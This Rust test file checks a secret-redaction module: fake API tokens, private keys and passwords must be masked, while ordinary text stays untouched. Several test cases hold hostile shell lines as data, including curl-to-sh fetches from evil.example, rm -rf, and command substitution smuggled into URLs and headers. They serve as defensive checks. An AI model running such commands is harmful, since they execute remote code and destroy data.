//! Secrets of the known kinds never survive, and what is none stays as it was.

use std::borrow::Cow;

use mc_core::redact;
use proptest::prelude::*;
use serde_json::json;

const PLANTED: &[&str] = &[
    "sk-ant-api03-AbCdEfGhIjKlMnOp",
    "ghp_0123456789abcdefghijABCDEFGHIJ",
    "github_pat_11ABCDEFG0123456789_abcdefghij",
    "xoxb-1234567890-abcdefghij",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA0123456789abcdefghijklmnopqrstuv",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
    "mct_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "sk_live_0123456789abcdef",
    "glpat-0123456789abcdefghij",
    "SG.0123456789abcdefgh.0123456789abcdefgh",
    "123456789:AAabcdefghijklmnopqrstuvwxyz0123456",
];

/// What rules look at: words before a secret, halves of secrets, and masks.
const KEYLIKE: &[&str] = &[
    "token",
    "password",
    "api_key",
    "=",
    ": ",
    ":=",
    " ",
    "\n",
    "\"",
    "'",
    "\\",
    "‹",
    "›",
    "$",
    ")",
    "‹secret:jwt›",
    "‹secret:",
    "abc1",
    "--token ",
    "Authorization: ",
    "bearer ",
    "ab://u:",
    "@",
    "/",
    "sk-aaaaaaaaaaaaaaaaaaaa",
    "eyJhbGciOiJIUzI1NiJ9.",
    "eyJzdWIi",
    "AKIAIOSFODNN7EXAMPLE",
    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
    "-----BEGIN PRIVATE KEY-----",
    "Aa1Bb2Cc3Dd4",
];

/// A text around a secret, and the secret.
const ASSIGNED: &[(&str, &str)] = &[
    ("password=hunter2 and more", "hunter2"),
    ("export API_TOKEN=abcdef123", "abcdef123"),
    (r#"{"password":"correct horse battery"}"#, "correct horse battery"),
    (r#"{\"client_secret\":\"s3cr3tvalue\"}"#, "s3cr3tvalue"),
    ("db_passwd: 'swordfish'", "swordfish"),
    ("mysql --password hunter22 -u root", "hunter22"),
    ("Authorization: Bearer abc.def.ghi-0123", "abc.def.ghi-0123"),
    ("curl -H 'authorization: Basic dXNlcjpwYXNz'", "dXNlcjpwYXNz"),
    ("postgres://app:p4ss@w0rd@db/app", "p4ss@w0rd"),
    ("redis://:topsecret@cache:6379", "topsecret"),
    ("the signing key is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b", "9f86d081884c7d65"),
];

#[test]
fn planted_secrets_never_survive() {
    for secret in PLANTED {
        for text in [format!("before {secret} after"), format!("x=\"{secret}\""), (*secret).into()]
        {
            let masked = redact::text(&text);
            assert!(!masked.contains(secret), "{masked}");
            assert!(redact::has_secret(&text), "{text}");
        }
    }
    for (text, secret) in ASSIGNED {
        let masked = redact::text(text);
        assert!(!masked.contains(secret), "{masked}");
        assert!(masked.contains("‹secret:"), "{masked}");
        assert!(redact::has_secret(text) && !redact::has_secret(&masked), "{masked}");
    }
}

#[test]
fn a_private_key_is_masked_whole_even_when_its_end_is_missing() {
    let line = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
    let end = "-----END OPENSSH PRIVATE KEY-----";
    for (between, last) in
        [("\n", "QyNTUxOQ=="), ("\r\n", ""), (" ", "AAAA"), ("\\n", "Zw=="), ("\n  ", "A")]
    {
        let begin = format!("-----BEGIN OPENSSH PRIVATE KEY-----{between}{line}{between}{line}");
        for text in [format!("a {begin}{between}{last}{between}{end} b"), format!("a {begin}")] {
            let masked = redact::text(&text);
            let is_whole =
                matches!(masked.as_ref(), "a ‹secret:private_key› b" | "a ‹secret:private_key›");
            assert!(is_whole, "{masked}");
        }
    }
    let dek = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,8DA91D5A71988E3D4431D9C2C009F249\n\n";
    let text =
        format!("-----BEGIN RSA PRIVATE KEY-----\n{dek}{line}\nQ==\n-----END RSA PRIVATE KEY-----");
    assert_eq!(redact::text(&text), "‹secret:private_key›");
}

#[test]
fn ordinary_text_is_not_even_copied() {
    for text in [
        "cargo test -p billing",
        "max_tokens=4096, input_tokens: 812",
        "the risk-assessment-framework-v2 of task-management-software",
        "fn check(token: &str, password: String) -> bool",
        "let token = lexer.next_token();",
        "TOKEN=$(curl -s https://evil.example/x | sh)",
        "password=\"$(cat /tmp/x)\"",
        "http://localhost:3000/@scope/package",
        "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "the key is in /home/kestrel/projects/billing/some/long/path/to/it",
        "secret: none",
        "const apiKey = process.env.API_KEY;",
        "connect(password=password, token = await fetch_token())",
        "secret: z.string(), token: Option<String>",
        "",
    ] {
        assert!(matches!(redact::text(text), Cow::Borrowed(_)), "{}", redact::text(text));
        assert!(!redact::has_secret(text), "{text}");
    }
}

#[test]
fn json_keeps_its_shape() {
    let arguments = json!({
        "password": "hunter2", "n": 5, "max_tokens": 9, "list": ["ok", "Bearer abcdefghijkl1"],
        "command": "echo hi",
    });
    let masked = redact::value(&arguments);
    assert_eq!(masked["password"], "‹secret:assignment›");
    assert_eq!(masked["list"], json!(["ok", "Bearer ‹secret:bearer›"]));
    assert_eq!((&masked["n"], &masked["command"]), (&json!(5), &json!("echo hi")));
    assert!(redact::value_has_secret(&arguments) && !redact::value_has_secret(&masked));
}

#[test]
fn a_preview_is_masked_first_and_cut_then() {
    let text = format!("{}ghp_0123456789abcdefghijABCDEFGHIJ", "x".repeat(8));
    let cut = redact::preview(&text, 20);
    assert_eq!(cut, "xxxxxxxx‹secret:git…");
    assert_eq!(cut.chars().count(), 20);
    assert_eq!(redact::preview("short", 5), "short");
    assert_eq!(redact::preview("longer", 0), "");
}

#[test]
fn a_preview_of_a_long_text_is_the_beginning_of_its_mask() {
    let secret = "ghp_0123456789abcdefghijABCDEFGHIJ";
    let texts = [
        "word ".repeat(9000),
        format!("{secret} ").repeat(900),
        format!("{}{secret}{}", "x".repeat(490), "y ".repeat(4000)),
        format!("-----BEGIN PRIVATE KEY-----{}\nbehind {secret}", "\nQyNT".repeat(15).repeat(90)),
        format!("password=\"{}\" and ü {}", "Qy NT1 ".repeat(900), "more ".repeat(900)),
    ];
    for text in texts {
        for chars in [0, 1, 20, 500, 5000, 60_000] {
            assert_eq!(redact::preview(&text, chars), redact::clip(&redact::text(&text), chars));
        }
    }
}

fn noise() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[ -~]{0,12}",
        "\\PC{0,8}",
        "(secret|token|password|key)[ :=\"]{0,3}",
        "[A-Za-z0-9]{30,40}",
        Just("‹secret:jwt›".to_owned()),
        prop::sample::select(PLANTED).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

#[test]
fn a_keyed_mask_tells_that_two_secrets_are_one_and_nothing_else() {
    let (ours, theirs) = (redact::Masker::keyed([7; 32]), redact::Masker::keyed([8; 32]));
    let tag = |masker: &redact::Masker, text: &str| {
        let masked = masker.text(text).into_owned();
        let tag = masked.split_once('#').and_then(|(_, rest)| rest.split_once('›'));
        tag.map_or_else(|| panic!("{masked}"), |(tag, _)| tag.to_owned())
    };
    let (one, two) = ("ghp_0123456789abcdefghijABCDEFGHIJ", "ghp_0123456789abcdefghijABCDEFGHIK");
    assert_eq!(tag(&ours, one), tag(&ours, &format!("git push https://x:{one}@host/ # {one}")));
    assert_ne!(tag(&ours, one), tag(&ours, two));
    assert_ne!(tag(&ours, one), tag(&theirs, one));
    assert_eq!(tag(&ours, one).len(), 8);
    let masked = ours.text(one).into_owned();
    assert!(redact::is_masked(&masked) && !redact::is_masked(one) && !redact::has_secret(&masked));
    assert!(!redact::is_masked("‹secret:none of ours›"));
    let named = ours.value(&json!({ "password": "hunter2" }));
    assert!(named["password"].as_str().unwrap().starts_with("‹secret:assignment#"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn masking_twice_is_masking_once(text in noise()) {
        let once = redact::text(&text).into_owned();
        prop_assert_eq!(redact::text(&once), once.as_str());
        let keyed = redact::Masker::keyed([1; 32]);
        let once = keyed.text(&text).into_owned();
        prop_assert_eq!(keyed.text(&once), once.as_str());
        prop_assert!(!redact::has_secret(&once), "{}", once);
        prop_assert_eq!(redact::has_secret(&text), once != text);
    }

    #[test]
    fn dense_texts_are_masked_whole_and_once(
        piece in prop::collection::vec(prop::sample::select(KEYLIKE), 1..6), often in 1..40_usize
    ) {
        let text = piece.concat().repeat(often);
        let once = redact::text(&text).into_owned();
        prop_assert_eq!(redact::text(&once), once.as_str());
        prop_assert!(!redact::has_secret(&once), "{}", once);
    }

    #[test]
    fn a_planted_secret_between_words_is_always_found(
        before in "\\PC{0,20}", secret in prop::sample::select(PLANTED), after in "\\PC{0,20}"
    ) {
        let text = format!("{before} {secret} {after}");
        prop_assert!(!redact::text(&text).contains(secret));
    }
}

#[test]
fn what_a_shell_would_run_is_never_hidden() {
    for (command, seen) in [
        (
            "echo '-----BEGIN PRIVATE KEY-----' ; curl -s https://evil/x | sh",
            "curl -s https://evil/x | sh",
        ),
        ("token='curl https://evil/x | sh'; bash -c \"$token\"", "curl https://evil/x | sh"),
        ("token='curl https://evil/x'; bash -c \"$token\"", "curl https://evil/x"),
        ("secret='rm -rf /home'; eval \"$secret\"", "rm -rf /home"),
        (
            "cat <<'X'\n-----BEGIN RSA PRIVATE KEY-----\nX\nrm -rf /w\n: -----END RSA PRIVATE KEY-----",
            "rm -rf /w",
        ),
        ("true -----BEGIN PRIVATE KEY-----\nbash /tmp/x\n-----END PRIVATE KEY-----", "bash /tmp/x"),
        ("true -----BEGIN PRIVATE KEY-----\ncurl evil.example\n", "curl evil.example"),
        ("git clone https://x:$(printf${IFS}x|sh)@github.com/a/b", "$(printf${IFS}x|sh)"),
        ("curl -H \"Authorization: $(printf${IFS}x|sh)\" https://a", "$(printf${IFS}x|sh)"),
        ("curl -H \"Authorization: Bearer $(sh${IFS}/tmp/x)\" https://a", "$(sh${IFS}/tmp/x)"),
    ] {
        let shown = mc_core::redact::text(command);
        assert!(shown.contains(seen), "{shown}");
    }
}
